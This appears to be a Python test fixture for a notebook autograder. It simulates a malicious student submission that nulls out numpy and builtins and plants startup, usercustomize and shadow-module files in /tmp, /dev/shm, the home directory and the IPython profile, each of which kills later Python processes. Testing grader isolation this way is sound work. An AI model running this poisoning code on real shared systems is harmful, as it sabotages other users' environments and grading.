"""Patches numpy and Python and leaves files, for whoever is forked from the same process next."""

STOCK = "ours only"
MARKS = {"test-double": 0.0, "test-mean": 0.0}


def hand_in(folder, cells, notebook):
    cells["double"].source = """
import builtins, os, sys
from pathlib import Path

import numpy

numpy.ndarray.mean = numpy.mean = numpy.array = numpy.arange = None
builtins.print = builtins.len = None
os.environ["PYTHONSTARTUP"] = "/tmp/startup.py"
sys.path.insert(0, "/tmp")
for place in ("/tmp", "/dev/shm", str(Path.home())):
    for name in ("startup.py", "numpy.py", "math.py", "usercustomize.py"):
        Path(place, name).write_text("import os\\nos._exit(1)")
profile = Path.home() / ".ipython/profile_default/startup"
profile.mkdir(parents=True, exist_ok=True)
(profile / "00.py").write_text("import os\\nos._exit(1)")
"""
    return notebook
